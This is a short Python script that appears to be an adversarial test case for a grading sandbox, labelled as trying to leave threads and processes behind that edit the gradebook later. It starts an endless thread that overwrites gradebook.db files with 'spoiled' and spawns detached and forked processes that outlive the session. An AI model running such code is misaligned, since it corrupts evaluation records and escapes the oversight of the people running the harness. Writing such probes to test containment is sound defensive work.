# What it tries: Leave threads and processes behind that edit the gradebook later.
import os
import subprocess
import sys
import threading
import time

def later():
    while True:
        time.sleep(0.05)
        for name in ("gradebook.db", "../gradebook.db", "../../gradebook.db"):
            try:
                with open(name, "r+b") as file:
                    file.write(b"spoiled")
            except OSError:
                pass

threading.Thread(target=later, daemon=False).start()
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
except OSError:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
        os._exit(0)
except OSError:
    pass
